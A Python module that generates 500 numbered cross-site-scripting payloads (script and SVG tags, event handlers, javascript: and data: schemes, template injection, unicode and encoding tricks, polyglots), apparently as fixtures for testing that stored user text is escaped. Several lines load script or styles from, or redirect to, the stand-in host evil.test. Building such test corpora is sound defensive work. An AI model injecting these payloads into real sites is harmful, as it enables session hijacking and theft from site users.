"""What strangers may store to run script before a reader: 500 payloads, families times contexts.

Each is at most 120 characters, so that it fits the shortest field people write into (titles). The
families are those of the threat list (T11): tags, handlers, SVG and MathML, URL schemes, template
syntaxes, unicode tricks, markdown, CSS, encodings, mutation, polyglots; the contexts are where a
page may put text: between tags, in either kind of attribute, unquoted, in a script string, in a
comment, in a style, in a textarea, in a title.
"""

from __future__ import annotations

LONGEST = 120
NUMBER = "§"
"""Stands for each payload's own number, so that what ran can be named."""

CONTEXTS = (
    "{}",
    '">{}',
    "'>{}",
    " x {}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    "</select>{}",
    "</bdi></p>{}",
)
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbeforeinput",
    "onscrollend",
    "oncontentvisibilityautostatechange",
)
TAGS = (
    "<script>alert(§)</script>",
    "<ScRiPt>alert(§)</sCrIpT>",
    "<script src=//evil.test/§></script>",
    "<img src=x onerror=alert(§)>",
    "<img/src=x/onerror=alert`§`>",
    "<iframe srcdoc='<script>alert(§)</script>'>",
    "<iframe src=javascript:alert(§)>",
    "<object data=javascript:alert(§)>",
    "<embed src=javascript:alert(§)>",
    "<base href=//evil.test/§/>",
    "<meta http-equiv=refresh content=0;url=//evil.test/§>",
    "<link rel=stylesheet href=//evil.test/§.css>",
    "<style>@import'//evil.test/§';</style>",
    "<form action=//evil.test/§><button autofocus>go</button></form>",
    "<video><source onerror=alert(§)></video>",
    "<details open ontoggle=alert(§)>",
    "<input type=image src=x onerror=alert(§)>",
    "<marquee onstart=alert(§)>x</marquee>",
    "<table background=javascript:alert(§)>",
    "<template><script>alert(§)</script></template>",
    "<noscript><img src=x onerror=alert(§)></noscript>",
)
VECTORS = (
    "<svg onload=alert(§)>",
    "<svg><script>alert(§)</script></svg>",
    "<svg><a xlink:href=javascript:alert(§)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(§)>></svg>",
    "<svg><foreignObject><img src=x onerror=alert(§)></foreignObject></svg>",
    "<math><mtext></table><img src=x onerror=alert(§)>",
    "<math href=javascript:alert(§)>x</math>",
    "<math><mi xlink:href=data:text/html,<script>alert(§)</script>>",
)
SCHEMES = (
    "javascript:alert(§)//",
    "JaVaScRiPt:alert(§)",
    "java\tscript:alert(§)",
    "java\nscript:alert(§)",
    " javascript:alert(§)",
    "javascript&colon;alert(§)",
    "&#106;avascript:alert(§)",
    "data:text/html,<script>alert(§)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§",
    "vbscript:msgbox(§)",
    "//evil.test/§",
    "\\\\evil.test\\§",
    "blob:https://evil.test/§",
    "view-source:javascript:alert(§)",
)
TEMPLATES = (
    "{{ §*7 }}",
    "{{ request.session }} §",
    "{% load x %}{% debug %} §",
    "{% include 'web/base.html' %} §",
    "${alert(§)}",
    "#{alert(§)}",
    "<%= alert(§) %>",
    "[[${alert(§)}]]",
    "{{constructor.constructor('alert(§)')()}}",
    "{clause} {0} {} %s %(x)s §",
    "{!r} {x!s} {__class__} §",
    "hx-get=/logout hx-trigger=load §",
    "<div hx-get=/live hx-trigger=load>§</div>",
    "<div data-hx-on:load=alert(§)>",
)
UNICODE = (
    "\u202egnp.exe §",
    "zero\u200bwidth\u2060joiner\ufeff §",
    "\u2066isolate\u2069 §",
    "\u200f\u200e\u061c marks §",
    "\uff1cscript\uff1ealert(§)\uff1c/script\uff1e",
    "\u02bascript §\u02ba \u2018\u2019\u201c\u201d",
    "\ufe64img src=x onerror=alert(§)\ufe65",
    "\u2028alert(§)\u2029",
    "a\u0300\u0301\u0302\u0303\u0304\u0305 §",
    "\u3164hangul\uffa0filler §",
    "\ue000202E\ue001 §",
    "\U000e0041\U000e0042 tags §",
    "\ufdd0 \ufff9note\ufffb §",
    "soft\u00adhyphen \u034f §",
)
MARKDOWN = (
    "[x](javascript:alert(§))",
    "![x](//evil.test/§.png)",
    "<javascript:alert(§)>",
    "[x]: javascript:alert(§)",
    "`</code><script>alert(§)</script>`",
    "@mira<img src=x onerror=alert(§)>",
    'https://evil.test/§"onmouseover="alert(§)',
)
STYLES = (
    "<x style=x:expression(alert(§))>",
    '" style="background:url(//evil.test/§)',
    "' style='position:fixed;inset:0' x='§",
    "}body{display:none}/*§*/",
    "url(javascript:alert(§))",
    "<x style=animation-name:x onanimationend=alert(§)>",
)
ENCODED = (
    "%3Cscript%3Ealert(§)%3C/script%3E",
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(§)&#x3e;",
    "\\x3cscript\\x3ealert(§)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(§)\\u003e",
    "+ADw-script+AD4-alert(§)+ADw-/script+AD4-",
    "<scr<script>ipt>alert(§)</scr</script>ipt>",
    "<<script>alert(§)//<</script>",
    '<img src="x` `<script>alert(§)</script>"` `>',
    "<!--><img src=x onerror=alert(§)>-->",
    "<noembed><p title='</noembed><img src=x onerror=alert(§)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(alert(§))//</stYle/</titLe/<sVg/oNloAd=alert(§)//>",
    "'\"><img src=x onerror=alert(§)>{{7*7}}${7*7}<%7*7%>",
    "\"onclick=alert(§)//<svg/onload=alert(§)>'/*`*/",
    "';alert(§)//\\';alert(§)//\";alert(§)//--></script>",
    '" autofocus onfocus=alert(§) x="',
    "' autofocus onfocus=alert(§) x='",
    "x onfocus=alert(§) autofocus ",
    "`-alert(§)-`",
)
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "a tabindex=1", "marquee")


def payloads() -> tuple[str, ...]:
    """Return 500 different payloads, each with its own number, none longer than `LONGEST`."""
    rare = (*SCHEMES, *TEMPLATES, *UNICODE, *MARKDOWN, *STYLES, *ENCODED, *POLYGLOTS)
    handled = (f"<{one} {handler}=alert({NUMBER})>" for one in ELEMENTS for handler in HANDLERS)
    placed = (context.replace("{}", tag) for tag in (*TAGS, *VECTORS) for context in CONTEXTS)
    found = [shape.replace(NUMBER, str(at)) for at, shape in enumerate((*rare, *handled, *placed))]
    short = [one for one in found if len(one) <= LONGEST]
    # What is cut off are combinations of what stays: every family and every context is kept.
    return tuple(short[:470] + short[-30:])
